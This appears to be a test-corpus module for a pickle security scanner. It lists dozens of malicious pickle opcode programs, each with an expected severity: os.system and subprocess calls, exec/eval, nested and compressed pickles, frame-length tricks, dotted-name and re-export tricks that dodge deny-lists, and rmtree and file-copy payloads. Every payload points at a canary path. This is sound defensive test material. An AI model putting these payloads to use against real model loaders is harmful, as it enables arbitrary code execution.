"""The raw-pickle tricks, as programs for :func:`tests.corpus._build.assemble`.

Each entry is ``trick -> (lowest acceptable severity, program)``; a program is
``OP args; OP...`` and ``$name`` is taken from :func:`pickle_env` (``cmd``: a shell
command, ``py``: Python source, ``argv``, ``canary``, ``evil``: a complete malicious
pickle...). Every payload only touches the canary (or a folder beside it).

>>> env = pickle_env(cmd="true", py="pass", canary="/tmp/c", argv=["true"], evil=b".",
...                  sentinel="/tmp/s")
>>> prog = PICKLE_PROGRAMS["proto2-tuple1"][1]
>>> b.assemble(prog, **env)[:2]
b'\\x80\\x02'
"""

from __future__ import annotations

import base64
import bz2
import marshal
import pickle
import zlib

from tests.corpus import _build as b

__all__ = ["PICKLE_PROGRAMS", "pickle_env"]

_CRIT = "critical"
_SYS = "TEXT $cmd; TUPLE1; REDUCE; STOP"  # call whatever is on the stack with the command
PICKLE_PROGRAMS: dict[str, tuple[str, str]] = {
    # one per protocol
    "proto0-text-global-reduce": (_CRIT, "GLOBAL os system; MARK; STRING $cmd; TUPLE; REDUCE; STOP"),
    "proto1-binstring": (_CRIT, "GLOBAL os system; MARK; BINSTRING $cmd; TUPLE; REDUCE; STOP"),
    "proto2-tuple1": (_CRIT, "PROTO 2; GLOBAL os system; BU $cmd; TUPLE1; REDUCE; STOP"),
    "proto3-binunicode": (_CRIT, "PROTO 3; GLOBAL subprocess call; LIST_OF $argv; TUPLE1; REDUCE; STOP"),
    "proto4-frame-stack-global": (_CRIT, "PROTO 4; FRAME rest; SBU os; MEMOIZE; SBU system; MEMOIZE; STACK_GLOBAL; MEMOIZE; TEXT $cmd; MEMOIZE; TUPLE1; REDUCE; MEMOIZE; STOP"),
    "proto5-stack-global": (_CRIT, "PROTO 5; FRAME rest; SBU os; SBU system; STACK_GLOBAL; " + _SYS),
    # every import-performing opcode
    "inst-opcode": (_CRIT, "MARK; STRING $cmd; INST os system; STOP"),
    "obj-opcode": (_CRIT, "PROTO 2; MARK; GLOBAL os system; TEXT $cmd; OBJ; STOP"),
    "newobj-popen": (_CRIT, "PROTO 2; GLOBAL subprocess Popen; LIST_OF $argv; TUPLE1; NEWOBJ; STOP"),
    "newobj-ex-popen": (_CRIT, "PROTO 4; SBU subprocess; SBU Popen; STACK_GLOBAL; LIST_OF $argv; TUPLE1; EMPTY_DICT; NEWOBJ_EX; STOP"),
    # BUILD with slot state {"__setstate__": os.system}, then a BUILD handing it the command
    "build-setstate-injection": (_CRIT, "PROTO 2; GLOBAL argparse Namespace; EMPTY_TUPLE; REDUCE; NONE; EMPTY_DICT; SBU __setstate__; GLOBAL os system; SETITEM; TUPLE2; BUILD; TEXT $cmd; BUILD; STOP"),
    # a dangerous class built without a reduce call: NEWOBJ, then BUILD with its state
    "build-setstate-dangerous-class": (_CRIT, "PROTO 2; GLOBAL subprocess Popen; EMPTY_TUPLE; NEWOBJ; EMPTY_DICT; SBU args; LIST_OF $argv; SETITEM; BUILD; STOP"),
    # copyreg extension codes name whatever the loading process registered: unknowable
    "ext1-opcode": ("high", "PROTO 2; EXT1 1; MARK; TEXT $cmd; TUPLE; REDUCE; STOP"),
    "ext2-opcode": ("high", "PROTO 2; EXT2 0x1234; MARK; TEXT $cmd; TUPLE; REDUCE; STOP"),
    "ext4-opcode": ("high", "PROTO 2; EXT4 0x123456; MARK; TEXT $cmd; TUPLE; REDUCE; STOP"),
    # STACK_GLOBAL names from the memo, by every memo opcode (with a decoy overwrite)
    "stack-global-memo-binput": (_CRIT, "PROTO 4; SBU os; BINPUT 0; POP; SBU system; BINPUT 1; POP; SBU decoy; BINPUT 0; POP; SBU os; BINPUT 2; POP; BINGET 2; BINGET 1; STACK_GLOBAL; " + _SYS),
    "stack-global-memo-long": (_CRIT, "PROTO 4; SBU nt; LONG_BINPUT 70000; SBU posix; LONG_BINPUT 70001; POP; POP; SBU system; LONG_BINPUT 5; POP; LONG_BINGET 70001; LONG_BINGET 5; STACK_GLOBAL; " + _SYS),
    "stack-global-memo-text-put": (_CRIT, "PROTO 4; SBU os; PUT 7; POP; SBU system; PUT 8; POP; GET 7; GET 8; STACK_GLOBAL; " + _SYS),
    "stack-global-memoize": (_CRIT, "PROTO 4; SBU builtins; MEMOIZE; POP; SBU exec; MEMOIZE; POP; BINGET 0; BINGET 1; STACK_GLOBAL; TEXT $py; TUPLE1; REDUCE; STOP"),
    # STACK_GLOBAL names from every string opcode kind
    **{
        f"stack-global-{kind}": (_CRIT, f"PROTO 4; {op} os; {op} system; STACK_GLOBAL; " + _SYS)
        for kind, op in (("unicode", "UNICODE"), ("binunicode", "BU"), ("short-binunicode", "SBU"),
                         ("binunicode8", "BU8"), ("string", "STRING"), ("binstring", "BINSTRING"),
                         ("short-binstring", "SBS"))
    },
    # Python 2 names that fix_imports maps (protocol < 3)
    "py2-builtin-eval": (_CRIT, "PROTO 2; GLOBAL __builtin__ eval; TEXT $py; TUPLE1; REDUCE; STOP"),
    "py2-commands-getoutput": (_CRIT, "PROTO 2; GLOBAL commands getoutput; " + _SYS),
    "py2-copy-reg-reconstructor": (_CRIT, "PROTO 2; GLOBAL copy_reg _reconstructor; MARK; GLOBAL subprocess Popen; GLOBAL subprocess Popen; LIST_OF $argv; TUPLE; REDUCE; STOP"),
    "py2-cpickle-loads": (_CRIT, "PROTO 2; GLOBAL cPickle loads; BYTES $evil; TUPLE1; REDUCE; STOP"),
    # dotted names walking through one module into another (protocol 4)
    **{
        trick: (_CRIT, f"PROTO 4; SBU {mod}; SBU {name}; STACK_GLOBAL; " + _SYS)
        for trick, mod, name in (
            ("dotted-torch-os-system", "torch", "os.system"),
            ("dotted-numpy-testing-os-system", "numpy", "testing._private.utils.os.system"),
            ("dotted-logging-os-system", "logging", "os.system"),
            ("dotted-tempfile-os-system", "tempfile", "_os.system"),
        )
    },
    "dotted-builtins-dict-get": (_CRIT, "PROTO 4; SBU builtins; SBU __dict__.get; STACK_GLOBAL; SBU exec; TUPLE1; REDUCE; TEXT $py; TUPLE1; REDUCE; STOP"),
    # re-exports: the real function behind os.system, and os reached through shutil
    "reexport-posix-system": (_CRIT, "PROTO 2; GLOBAL posix system; " + _SYS),
    "reexport-shutil-os": (_CRIT, "PROTO 2; GLOBAL operator methodcaller; SBU system; TEXT $cmd; TUPLE2; REDUCE; GLOBAL shutil os; TUPLE1; REDUCE; STOP"),
    # frames whose declared length does not match the opcodes (pickle reads on past a frame
    # at an opcode boundary; the short frame ends right after GLOBAL)
    "frame-length-short": (_CRIT, "PROTO 4; FRAME $global_len; GLOBAL os system; " + _SYS),
    "frame-length-zero": (_CRIT, "PROTO 4; FRAME 0; GLOBAL os system; " + _SYS),
    "frame-then-unframed": (_CRIT, "RAW $framed_benign_head; POP; GLOBAL os system; " + _SYS),
    # several pickles in one stream; pickles nested in bytes
    "concatenated-benign-then-evil": (_CRIT, "RAW $benign; RAW $evil"),
    "concatenated-three": (_CRIT, "RAW $benign4; RAW $benign0; RAW $evil"),
    "nested-pickle-loads": (_CRIT, "PROTO 2; GLOBAL pickle loads; BYTES $evil; TUPLE1; REDUCE; STOP"),
    "nested-underscore-pickle-loads": (_CRIT, "PROTO 2; GLOBAL _pickle loads; BYTES $evil; TUPLE1; REDUCE; STOP"),
    "nested-pickle-zlib": (_CRIT, "PROTO 2; GLOBAL pickle loads; GLOBAL zlib decompress; BYTES $evil_zlib; TUPLE1; REDUCE; TUPLE1; REDUCE; STOP"),
    "nested-pickle-base64": (_CRIT, "PROTO 2; GLOBAL pickle loads; GLOBAL base64 b64decode; TEXT $evil_b64; TUPLE1; REDUCE; TUPLE1; REDUCE; STOP"),
    "nested-pickle-codecs-bz2": (_CRIT, "PROTO 2; GLOBAL pickle loads; GLOBAL bz2 decompress; GLOBAL _codecs encode; TEXT $evil_bz2_latin1; SBU latin1; TUPLE2; REDUCE; TUPLE1; REDUCE; TUPLE1; REDUCE; STOP"),
    # call primitives
    "getattr-import-chain": (_CRIT, "PROTO 2; GLOBAL builtins getattr; GLOBAL builtins __import__; SBU os; TUPLE1; REDUCE; SBU system; TUPLE2; REDUCE; " + _SYS),
    "builtins-open-write": (_CRIT, "PROTO 2; GLOBAL builtins open; TEXT $canary; SBU w; TUPLE2; REDUCE; STOP"),
    "builtins-exec": (_CRIT, "PROTO 2; GLOBAL builtins exec; TEXT $py; TUPLE1; REDUCE; STOP"),
    "builtins-compile-eval": (_CRIT, "PROTO 2; GLOBAL builtins eval; GLOBAL builtins compile; TEXT $py; SBU <x>; SBU exec; TUPLE3; REDUCE; TUPLE1; REDUCE; STOP"),
    "pathlib-touch": (_CRIT, "PROTO 4; SBU pathlib; SBU Path.touch; STACK_GLOBAL; GLOBAL pathlib Path; TEXT $canary; TUPLE1; REDUCE; TUPLE1; REDUCE; STOP"),
    "operator-attrgetter": (_CRIT, "PROTO 2; GLOBAL operator attrgetter; SBU system; TUPLE1; REDUCE; GLOBAL tempfile _os; TUPLE1; REDUCE; " + _SYS),
    "operator-methodcaller": (_CRIT, "PROTO 2; GLOBAL operator methodcaller; SBU system; TEXT $cmd; TUPLE2; REDUCE; GLOBAL tempfile _os; TUPLE1; REDUCE; STOP"),
    "functools-partial": (_CRIT, "PROTO 2; GLOBAL functools partial; GLOBAL subprocess check_call; LIST_OF $argv; TUPLE2; REDUCE; EMPTY_TUPLE; REDUCE; STOP"),
    "runpy-run-code": (_CRIT, "PROTO 2; GLOBAL runpy _run_code; TEXT $py; EMPTY_DICT; TUPLE2; REDUCE; STOP"),
    "code-interactive-interpreter": (_CRIT, "PROTO 4; SBU code; SBU InteractiveInterpreter.runsource; STACK_GLOBAL; GLOBAL code InteractiveInterpreter; EMPTY_TUPLE; REDUCE; TEXT $py; TUPLE2; REDUCE; STOP"),
    "pty-spawn": (_CRIT, "PROTO 2; GLOBAL pty spawn; LIST_OF $argv; TUPLE1; REDUCE; STOP"),
    "subprocess-popen": (_CRIT, "PROTO 2; GLOBAL subprocess Popen; LIST_OF $argv; TUPLE1; REDUCE; STOP"),
    "subprocess-getoutput": (_CRIT, "PROTO 2; GLOBAL subprocess getoutput; " + _SYS),
    "os-popen": (_CRIT, "PROTO 2; GLOBAL os popen; " + _SYS),
    "os-execvp": (_CRIT, "PROTO 2; GLOBAL os execvp; SBU touch; LIST_OF $argv; TUPLE2; REDUCE; STOP"),
    "asyncio-subprocess": (_CRIT, "PROTO 2; GLOBAL asyncio run; GLOBAL asyncio create_subprocess_exec; SBU touch; TEXT $canary; TUPLE2; REDUCE; TUPLE1; REDUCE; STOP"),
    "asyncio-subprocess-module": (_CRIT, "PROTO 2; GLOBAL asyncio.subprocess create_subprocess_shell; " + _SYS),
    "posixsubprocess-fork-exec": (_CRIT, "PROTO 2; GLOBAL _posixsubprocess fork_exec; MARK; LIST_OF $argv; LIST_OF $touch_exe; TRUE; EMPTY_TUPLE; NONE; NONE; TUPLE; REDUCE; STOP"),
    "ctypes-cdll": (_CRIT, "PROTO 4; SBU ctypes; SBU CDLL.__getitem__; STACK_GLOBAL; GLOBAL ctypes CDLL; NONE; TUPLE1; REDUCE; SBU system; TUPLE2; REDUCE; BYTES $cmd; TUPLE1; REDUCE; STOP"),
    "importlib-import-module": (_CRIT, "PROTO 2; GLOBAL operator methodcaller; SBU system; TEXT $cmd; TUPLE2; REDUCE; GLOBAL importlib import_module; SBU os; TUPLE1; REDUCE; TUPLE1; REDUCE; STOP"),
    "pydoc-locate": (_CRIT, "PROTO 2; GLOBAL pydoc locate; SBU os.system; TUPLE1; REDUCE; " + _SYS),
    "timeit-timeit": (_CRIT, "PROTO 2; GLOBAL timeit timeit; TEXT $py; TUPLE1; REDUCE; STOP"),
    "cprofile-run": (_CRIT, "PROTO 2; GLOBAL cProfile run; TEXT $py; TUPLE1; REDUCE; STOP"),
    "profile-run": (_CRIT, "PROTO 2; GLOBAL profile run; TEXT $py; TUPLE1; REDUCE; STOP"),
    "pdb-run": (_CRIT, "PROTO 2; GLOBAL pdb run; TEXT $py; TUPLE1; REDUCE; STOP"),
    "bdb-run": (_CRIT, "PROTO 4; SBU bdb; SBU Bdb.run; STACK_GLOBAL; GLOBAL bdb Bdb; EMPTY_TUPLE; REDUCE; TEXT $py; TUPLE2; REDUCE; STOP"),
    "trace-runctx": (_CRIT, "PROTO 4; SBU trace; SBU Trace.runctx; STACK_GLOBAL; MARK; GLOBAL trace Trace; EMPTY_TUPLE; REDUCE; TEXT $py; EMPTY_DICT; EMPTY_DICT; TUPLE; REDUCE; STOP"),
    "shutil-rmtree": (_CRIT, "PROTO 2; GLOBAL shutil rmtree; TEXT $sentinel; TUPLE1; REDUCE; STOP"),
    "shutil-copy": (_CRIT, "PROTO 2; GLOBAL shutil copyfile; SBU /etc/hostname; TEXT $canary; TUPLE2; REDUCE; STOP"),
    "webbrowser-open": (_CRIT, "PROTO 2; GLOBAL webbrowser open; TEXT $canary_url; TUPLE1; REDUCE; STOP"),
    "socket-create-connection": (_CRIT, "PROTO 2; GLOBAL socket create_connection; SBU 127.0.0.1; BININT 9; TUPLE2; TUPLE1; REDUCE; STOP"),
    "urllib-urlopen": (_CRIT, "PROTO 2; GLOBAL urllib.request urlopen; TEXT $canary_url; TUPLE1; REDUCE; STOP"),
    "torch-load-nested": (_CRIT, "PROTO 2; GLOBAL torch load; GLOBAL io BytesIO; BYTES $evil; TUPLE1; REDUCE; TUPLE1; REDUCE; STOP"),
    "numpy-load-nested": (_CRIT, "PROTO 2; GLOBAL numpy load; MARK; GLOBAL io BytesIO; BYTES $evil_npy; TUPLE1; REDUCE; NONE; TRUE; TUPLE; REDUCE; STOP"),
    "marshal-functiontype": (_CRIT, "PROTO 2; GLOBAL types FunctionType; GLOBAL marshal loads; BYTES $code; TUPLE1; REDUCE; EMPTY_DICT; TUPLE2; REDUCE; EMPTY_TUPLE; REDUCE; STOP"),
    "copyreg-reconstructor-popen": (_CRIT, "PROTO 2; GLOBAL copyreg _reconstructor; GLOBAL subprocess Popen; GLOBAL subprocess Popen; LIST_OF $argv; TUPLE3; REDUCE; STOP"),
    "sys-modules-lookup": ("high", "PROTO 4; SBU sys; SBU modules.get; STACK_GLOBAL; SBU os; TUPLE1; REDUCE; POP; NONE; STOP"),
    # allow-list territory: callables unknown to every deny-list
    "unknown-mypkg-util-do-it": ("high", "PROTO 2; GLOBAL mypkg.util do_it; " + _SYS),
    "unknown-acme-hooks-on-load": ("high", "PROTO 2; GLOBAL acme_ml.hooks on_load; " + _SYS),
    "unknown-sklearn-lookalike": ("high", "PROTO 2; GLOBAL sklearn_extras.utils restore; " + _SYS),
    "unknown-class-build": ("high", "PROTO 2; GLOBAL mypkg.model Loader; EMPTY_TUPLE; NEWOBJ; EMPTY_DICT; SBU path; TEXT $canary; SETITEM; BUILD; STOP"),
}  # fmt: skip


def pickle_env(
    *, cmd: str, py: str, canary: str, argv: list[str], evil: bytes, sentinel: str
) -> dict[str, str | bytes | list[str]]:
    """The values ``$name`` stands for in :data:`PICKLE_PROGRAMS`."""
    env: dict[str, str | bytes | list[str]] = {
        "cmd": cmd, "py": py, "canary": canary, "argv": argv, "evil": evil, "sentinel": sentinel,
        "touch_exe": ["/usr/bin/touch"], "canary_url": f"file://{canary}",
        "global_len": str(len(b.GLOBAL("os", "system"))),
        "benign": pickle.dumps({"a": 1}, protocol=2),
        "benign4": pickle.dumps([1], protocol=4), "benign0": pickle.dumps("x", protocol=0),
        # a framed benign pickle without its STOP: its frame ends inside what follows
        "framed_benign_head": pickle.dumps({"weights": [1, 2, 3]}, protocol=4)[:-1],
        "evil_zlib": zlib.compress(evil), "evil_b64": base64.b64encode(evil).decode(),
        "evil_bz2_latin1": bz2.compress(evil).decode("latin-1"),
        "code": marshal.dumps(compile(py, "<payload>", "exec")),
    }  # fmt: skip
    evil_obj = b.assemble(
        "PROTO 2; GLOBAL os system; TEXT $cmd; TUPLE1; REDUCE; POP; EMPTY_LIST; STOP", cmd=cmd
    )
    env["evil_npy"] = b.npy_bytes("|O", (1,), evil_obj)
    return env
